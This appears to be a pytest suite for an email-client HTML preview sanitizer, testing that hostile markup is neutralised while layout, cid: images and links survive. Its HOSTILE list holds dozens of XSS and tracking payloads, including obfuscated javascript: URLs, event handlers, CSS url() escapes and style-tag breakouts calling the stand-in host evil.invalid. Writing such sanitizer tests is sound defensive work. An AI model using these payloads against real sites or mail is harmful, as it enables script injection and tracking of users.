"""The preview sanitizer (mailnest.web.sanitize): pure, no sockets."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from mailnest.web.sanitize import (
    document,
    embed_links,
    link_parts,
    sanitize,
    scrub_css,
    text_document,
    text_links,
)

PART = "/api/v1/message/ID/part/2"


class _Collect(HTMLParser):
    """Every start tag with its attributes, and the text inside <style> elements, as a browser would see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.style_text: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style_text.append(data)


def parsed(html: str) -> _Collect:
    collector = _Collect()
    collector.feed(html)
    collector.close()
    return collector


# Known ways to get script or a network request out of HTML. Each must come out inert.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<iframe src=\"http://evil.invalid/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"http://evil.invalid/x.swf\"></object>",
    "<embed src=\"http://evil.invalid/x.swf\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.invalid/\">",
    "<link rel=stylesheet href=\"http://evil.invalid/x.css\">",
    "<base href=\"http://evil.invalid/\">",
    "<form action=\"http://evil.invalid/\" method=post><input name=p><button>go</button></form>",
    "<button formaction=\"http://evil.invalid/\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video poster=\"http://evil.invalid/p.png\"><source src=\"http://evil.invalid/v.mp4\"></video>",
    "<audio src=\"http://evil.invalid/a.mp3\" autoplay></audio>",
    "<img srcset=\"http://evil.invalid/a.png 1x\">",
    "<picture><source srcset=\"http://evil.invalid/a.png\"><img></picture>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<div style=\"-moz-binding:url(http://evil.invalid/x.xml#x)\">x</div>",
    "<style>@import url(http://evil.invalid/x.css);</style>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    "<style>body{background:url(http://evil.invalid/x.png)}</style>",
    "<style>body{background:\\75 rl(http://evil.invalid/x.png)}</style>",
    "<style>body{background:ur/**/l(http://evil.invalid/x.png)}</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.invalid/f.woff)}</style>",
    "<style>body{background-image:image-set(\"http://evil.invalid/x.png\" 1x)}</style>",
    "<style></style><script>alert(1)</script>",
    "<style>a{color:red}</style ><img src=x onerror=alert(1)>",
    "<style>a{}<<//style><script>alert(1)</script><img src=x onerror=alert(1)></style>",  # a removal joins "</style"
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--<script>alert(1)</script>-->",
    "<div id=\"x\" onclick=\"alert(1)\" onmouseover=\"alert(1)\">x</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=\"//evil.invalid/\">x</a>",
    "<img src=\"//evil.invalid/track.gif\">",
    "<img src=\"\\\\evil.invalid\\track.gif\">",
]

URL_ATTRIBUTES = {"href", "src", "background", "action", "formaction", "poster", "srcset", "data", "xlink:href",
                  "cite", "longdesc", "lowsrc", "dynsrc"}
ALLOWED_LINK = ("http://", "https://", "mailto:", "tel:", PART)


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_html_comes_out_inert(payload: str) -> None:
    preview = sanitize(payload, cid_urls={"logo@x": PART})
    doc = parsed(preview.body)
    forbidden = {"script", "iframe", "object", "embed", "meta", "link", "base", "form", "input", "button",
                 "svg", "math", "video", "audio", "source", "picture", "textarea", "template", "xmp", "noscript",
                 "isindex", "marquee"}
    for tag, attrs in doc.tags:
        assert tag not in forbidden, preview.body
        for name, value in attrs.items():
            assert not name.startswith("on"), preview.body
            if name in URL_ATTRIBUTES:
                assert name in {"href", "src"}, preview.body
                assert value.startswith(ALLOWED_LINK) or value.startswith("data:image/"), preview.body
                assert "evil.invalid" not in value, preview.body
            if name == "style":
                assert "url(" not in value.replace('url("' + PART, ""), preview.body
                assert "expression" not in value and "behavior" not in value and "binding" not in value
    for css in doc.style_text:
        assert "@import" not in css and "evil.invalid" not in css and "url(" not in css, preview.body
    assert "javascript:" not in preview.body.lower()


def test_a_kept_image_url_cannot_end_its_style_element() -> None:
    payload = "<style>a{background:url(\"data:image/png,<\\/style><img/src='x'/onerror=alert(1)>\")}</style><p>hi</p>"
    body = sanitize(payload).body
    assert [tag for tag, _ in parsed(body).tags] == ["style", "p"], body
    assert "data:image/png" in body  # the image data itself is kept


def test_links_open_in_a_new_tab_without_opener_or_referrer() -> None:
    preview = sanitize('<a href="https://example.com/a?b=1&amp;c=2">x</a>')
    (tag, attrs), = parsed(preview.body).tags
    assert tag == "a"
    assert attrs["href"] == "https://example.com/a?b=1&c=2"
    assert attrs["target"] == "_blank"
    assert set(attrs["rel"].split()) == {"noopener", "noreferrer"}


def test_remote_images_are_blocked_and_counted_by_default() -> None:
    html = ('<img src="https://img.example/a.png"><table background="http://img.example/b.png"><tr>'
            '<td style="background:url(https://img.example/c.png)">x</td></tr></table>'
            "<style>.x{background:url('http://img.example/d.png')}</style>")
    blocked = sanitize(html)
    assert blocked.remote_images == 4
    assert "img.example" not in blocked.body
    allowed = sanitize(html, allow_remote=True)
    assert allowed.remote_images == 4
    for name in ("a", "b", "c", "d"):
        assert f"img.example/{name}.png" in allowed.body


def test_remote_mode_still_refuses_script_urls() -> None:
    preview = sanitize('<img src="javascript:alert(1)"><div style="background:url(javascript:x)">y</div>',
                       allow_remote=True)
    assert "javascript" not in preview.body


def test_cid_images_point_at_the_message_part() -> None:
    html = '<img src="cid:Logo@Example"><img src="cid:unknown@x"><div style="background:url(cid:logo@example)">x</div>'
    preview = sanitize(html, cid_urls={"<logo@example>": PART})
    srcs = [attrs.get("src") for tag, attrs in parsed(preview.body).tags if tag == "img"]
    assert srcs == [PART, None]
    assert f'url("{PART}")' in preview.body.replace("&quot;", '"')
    assert preview.remote_images == 0


def test_embedded_image_data_survives_but_not_other_data() -> None:
    preview = sanitize('<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:text/html,<b>x</b>">')
    srcs = [attrs.get("src") for tag, attrs in parsed(preview.body).tags if tag == "img"]
    assert srcs == ["data:image/png;base64,iVBORw0KGgo=", None]


def test_presentation_survives() -> None:
    html = ('<table width="600" cellpadding="4" bgcolor="#eeeeee" align="center"><tr><td style="color:#333;'
            'font-size:14px" valign="top"><font face="Arial" color="red">Hi</font> <b>there</b></td></tr></table>'
            "<style>p { margin: 0 }</style><p class=\"lead\">para</p>")
    body = sanitize(html).body
    doc = parsed(body)
    table = dict(doc.tags)["table"]
    assert table["width"] == "600" and table["bgcolor"] == "#eeeeee" and table["cellpadding"] == "4"
    assert dict(doc.tags)["td"]["style"] == "color:#333;font-size:14px"
    assert dict(doc.tags)["font"] == {"face": "Arial", "color": "red"}
    assert doc.style_text == ["p { margin: 0 }"]
    assert dict(doc.tags)["p"]["class"] == "lead"


def test_style_elements_in_the_head_are_kept_and_head_junk_is_dropped() -> None:
    html = "<html><head><title>T</title><style>h1{color:red}</style></head><body><h1>Hi</h1></body></html>"
    body = sanitize(html).body
    assert "<title>" not in body and ">T<" not in body
    assert "<style>h1{color:red}</style>" in body
    assert "<h1>Hi</h1>" in body


def test_css_scrubbing_rules() -> None:
    assert scrub_css("color: red") == "color: red"
    assert scrub_css("background: url(http://x.example/a.png) no-repeat") == "background: none no-repeat"
    assert scrub_css("@import url(x.css); a{}") == " a{}"
    assert scrub_css("a{b:\\75 rl(http://x.example/)}") == "a{b:none}"
    assert "url(" not in scrub_css("a{b:url( 'http://x.example/a' b)}")
    assert scrub_css('a{content:"\\201C"}') == 'a{content:"\\201C"}'


def test_links_are_collected_in_order_without_duplicates() -> None:
    html = ('<a href="https://a.example/1">1</a><a href="mailto:x@y.example">m</a>'
            '<a href="https://a.example/1">again</a><a href="javascript:x">j</a><a href="tel:123">t</a>')
    assert sanitize(html).links == ("https://a.example/1", "mailto:x@y.example")


def test_text_links() -> None:
    text = "See https://x.example/path. Or (http://y.example/q?a=1) and mailto:me@x.example, https://x.example/path"
    assert text_links(text) == ("https://x.example/path", "http://y.example/q?a=1", "mailto:me@x.example")


def test_documents() -> None:
    doc = document(sanitize("<p>hi</p>"))
    assert doc.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in doc and "<body><p>hi</p></body>" in doc
    assert "&lt;script&gt;" in text_document("<script>")


def test_empty_and_huge_inputs() -> None:
    assert sanitize("").body == ""
    big = "<p>" + "x" * 1_000_000 + "</p>" + "<img src=x onerror=alert(1)>" * 1000
    preview = sanitize(big)
    assert "onerror" not in preview.body and len(preview.body) > 1_000_000


# --- the original HTML (/view/{ID}.html): only cid: references change, and link targets with ?embed=1 ----------


def test_link_parts_rewrites_only_known_cid_references() -> None:
    html = ('<img src="cid:Logo@X"><img src=cid:logo@x alt=a><td background=\'cid:a%40b\'>'
            '<p style="background:url( cid:logo@x )">cid:logo@x in text</p><img src="cid:unknown@x">')
    out = link_parts(html, {"<logo@x>": PART, "a@b": "/p/3"})
    assert out == (f'<img src="{PART}"><img src={PART} alt=a><td background=\'/p/3\'>'
                   f'<p style="background:url( {PART} )">cid:logo@x in text</p><img src="cid:unknown@x">')
    assert link_parts(html, {}) == html
    assert link_parts("<p>no references</p>", {"logo@x": PART}) == "<p>no references</p>"


def test_embed_links_changes_only_anchor_start_tags() -> None:
    html = ('<p title="<a href=x>">x</p>\n<A HREF="https://a.example/?a=1&amp;b=2" target=_self rel=opener>a</A>'
            '<script>var s = "<a href=y>";</script><a name=top>\n<area href="/z"><a/>')
    out = embed_links(html)
    assert out == ('<p title="<a href=x>">x</p>\n'
                   '<a href="https://a.example/?a=1&amp;b=2" target="_blank" rel="noreferrer noopener">a</A>'
                   '<script>var s = "<a href=y>";</script><a name="top" target="_blank" rel="noreferrer noopener">'
                   '\n<area href="/z"><a target="_blank" rel="noreferrer noopener">')
    assert embed_links("<p>no links</p>") == "<p>no links</p>"


def test_embed_links_leaves_what_a_browser_shows_as_text() -> None:
    """A review found it: `<a>` inside a textarea (or title, xmp...) is text on screen, and was rewritten."""
    html = ("<title>see <a href=t></title><textarea><a href=x></textarea><xmp><a href=y></xmp>"
            "<a href=z>z</a><plaintext><a href=w>")
    assert embed_links(html) == ("<title>see <a href=t></title><textarea><a href=x></textarea>"
                                 "<xmp><a href=y></xmp>"
                                 '<a href="z" target="_blank" rel="noreferrer noopener">z</a><plaintext><a href=w>')
